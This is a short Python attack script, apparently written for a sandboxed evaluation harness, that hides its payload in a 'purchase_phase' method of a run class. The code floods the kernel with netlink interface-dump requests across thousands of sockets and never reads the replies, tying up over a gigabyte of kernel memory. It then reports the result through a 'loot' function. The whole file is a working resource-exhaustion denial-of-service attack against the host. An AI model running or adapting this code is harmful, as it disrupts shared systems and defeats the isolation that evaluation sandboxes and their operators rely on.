"""Asks the kernel for its interfaces again and again and reads no answer, on thousands of sockets, up to 1,200 MiB."""

import socket
import struct
import time

from aim import MIB, loot, most_files

from run import ZEWDPCBaseRun

GET_LINK, REQUEST, ACK = 18, 1, 4


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        most = most_files()
        question = struct.pack("=IHHII BxHiII", 32, GET_LINK, REQUEST | ACK, 1, 0, 0, 0, 1, 0, 0)
        held, queued = [], 0
        end = time.monotonic() + 9
        while queued < 1200 * MIB and len(held) < most - 100 and time.monotonic() < end:
            one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 * MIB)
            one.setblocking(False)
            held.append(one)
            room = one.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)
            for _ in range(room // 2048):
                one.send(question)
            queued += room
        time.sleep(1.2)
        print("held", queued // MIB, len(held), flush=True)
        if queued > 1000 * MIB:
            loot(f"{queued // MIB} MiB in {len(held)} sockets")
